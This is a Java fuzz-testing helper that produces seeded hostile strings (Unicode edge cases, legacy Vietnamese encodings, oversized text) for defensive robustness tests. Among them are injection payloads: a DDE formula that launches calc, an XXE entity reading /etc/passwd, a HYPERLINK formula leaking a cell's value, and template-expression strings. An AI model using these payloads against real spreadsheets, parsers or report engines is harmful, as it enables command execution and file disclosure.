package io.github.ghidanh.testing;

import java.text.Normalizer;
import java.util.random.RandomGenerator;

/**
 * Hostile strings for fuzz suites (ours and a host's): each family is a kind of text that has broken
 * real systems. Plain functions of a seeded random source, framework-neutral, so every case can be
 * replayed from its seed.
 */
public final class HostileStrings {
    private HostileStrings() {
    }

    /** The families, in the order {@link #string(RandomGenerator)} picks from. */
    public static final String[] FAMILIES = {"empty", "blank", "huge", "control", "loneSurrogate", "bidi", "nfd", "emoji",
        "tcvn3", "vni", "formula", "markup", "placeholder", "randomCodePoints", "nonCharacter", "mixed", "null"};

    private static final String[] TCVN3 = {"B¶o Th¾ng", "NguyÔn V¨n An", "§¶ng ñy ph­êng Duyªn H¶i", "Chi bé Tæ d©n phè sè 1"};
    private static final String[] VNI = {"Baûo Thaéng", "Nguyeãn Vaên An", "Ñaûng uûy phöôøng Duyeân Haûi"};
    private static final String[] FORMULAS = {"=HYPERLINK(\"http://example.invalid/?\"&A1,\"bấm\")", "+1+2", "-3+4",
        "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "==", "-", "+", "@"};
    private static final String[] MARKUP = {"<b>đậm</b>", "<style isBold=\"true\">x</style>", "]]><x/>", "&amp;&lt;&#0;",
        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;", "\"'`", "</w:t><w:t>", "<f>1+1</f>"};
    private static final String[] PLACEHOLDERS = {"{0}", "{1}{2}{3}", "${1+1}", "#{1+1}", "$P{REPORT_CONNECTION}",
        "$F{name}", "%s%s%s%n", "%1$s", "\\", "'{0}'", "{", "}"};
    private static final String VIET = "Nguyễn Thị Hồng Nhung, Đảng ủy phường Duyên Hải — ghi danh điển hình tiên tiến";

    /** A hostile string of a random family; may be null. */
    public static String string(RandomGenerator r) {
        String family = FAMILIES[r.nextInt(FAMILIES.length)];
        if (family.equals("huge") && r.nextInt(3) != 0) {
            family = FAMILIES[r.nextInt(FAMILIES.length)]; // 100,000 characters cost seconds: a third as often
        }
        return of(family, r);
    }

    /** A hostile string of the given family. */
    public static String of(String family, RandomGenerator r) {
        return switch (family) {
            case "empty" -> "";
            case "blank" -> new String[] {" ", "\t", "\n", "\u00A0", "\u200B", "\u3000", "\r\n"}[r.nextInt(7)];
            case "huge" -> huge(r);
            case "control" -> control(r);
            case "loneSurrogate" -> new String[] {"\uD800", "\uDFFF", "An\uD83D", "\uDE00Bình", "\uDC00\uD800"}[r.nextInt(5)];
            case "bidi" -> new String[] {"\u202ENguyễn\u202C", "\u2066Văn\u2069", "abc\u200F\u200E", "\u202Dx\u202A\u202B"}[r.nextInt(4)];
            case "nfd" -> Normalizer.normalize(VIET, Normalizer.Form.NFD);
            case "emoji" -> new String[] {"👨‍👩‍👧‍👦", "Nguyễn 🇻🇳 An", "😀😀😀", "🏳️‍🌈", "a\uFE0Fb"}[r.nextInt(5)];
            case "tcvn3" -> TCVN3[r.nextInt(TCVN3.length)];
            case "vni" -> VNI[r.nextInt(VNI.length)];
            case "formula" -> FORMULAS[r.nextInt(FORMULAS.length)];
            case "markup" -> MARKUP[r.nextInt(MARKUP.length)];
            case "placeholder" -> PLACEHOLDERS[r.nextInt(PLACEHOLDERS.length)];
            case "randomCodePoints" -> randomCodePoints(r, 1 + r.nextInt(40));
            case "nonCharacter" -> new String[] {"\uFFFF", "\uFFFE", "\uFDD0", new String(Character.toChars(0x10FFFF))}[r.nextInt(4)];
            case "mixed" -> VIET.substring(0, r.nextInt(VIET.length())) + of(FAMILIES[r.nextInt(FAMILIES.length - 2)], r);
            case "null" -> null;
            default -> throw new IllegalArgumentException(family);
        };
    }

    /** 100,000 characters: one endless word, or Vietnamese words, or lines. */
    public static String huge(RandomGenerator r) {
        StringBuilder b = new StringBuilder(100_000);
        int style = r.nextInt(3);
        while (b.length() < 100_000) {
            b.append(switch (style) {
                case 0 -> "đ";
                case 1 -> "Nguyễn Thị Hồng Nhung ";
                default -> "dòng\n";
            });
        }
        b.setLength(100_000);
        return b.toString();
    }

    private static String control(RandomGenerator r) {
        StringBuilder b = new StringBuilder("An");
        int n = 1 + r.nextInt(4);
        for (int i = 0; i < n; i++) {
            int c = switch (r.nextInt(4)) {
                case 0 -> r.nextInt(0x20);
                case 1 -> 0x7F;
                case 2 -> 0x80 + r.nextInt(0x20);
                default -> 0;
            };
            b.append((char) c);
        }
        return b.append("Bình").toString();
    }

    public static String randomCodePoints(RandomGenerator r, int n) {
        StringBuilder b = new StringBuilder();
        for (int i = 0; i < n; i++) {
            int cp = switch (r.nextInt(4)) {
                case 0 -> r.nextInt(0x80);
                case 1 -> 0xC0 + r.nextInt(0x1F00); // Latin and combining marks, Vietnamese included
                case 2 -> r.nextInt(0x10000); // any BMP unit, surrogates included
                default -> r.nextInt(0x110000);
            };
            if (cp >= 0xD800 && cp <= 0xDFFF) {
                b.append((char) cp);
            } else {
                b.appendCodePoint(cp);
            }
        }
        return b.toString();
    }

    /** {@code s} as a JSON string literal (quotes, backslashes and control characters escaped), or {@code null}. */
    public static String jsonLiteral(String s) {
        if (s == null) {
            return "null";
        }
        StringBuilder b = new StringBuilder("\"");
        for (char c : s.toCharArray()) {
            if (c == '"' || c == '\\') {
                b.append('\\').append(c);
            } else if (c < 0x20) {
                b.append(String.format("\\u%04x", (int) c));
            } else {
                b.append(c);
            }
        }
        return b.append('"').toString();
    }
}
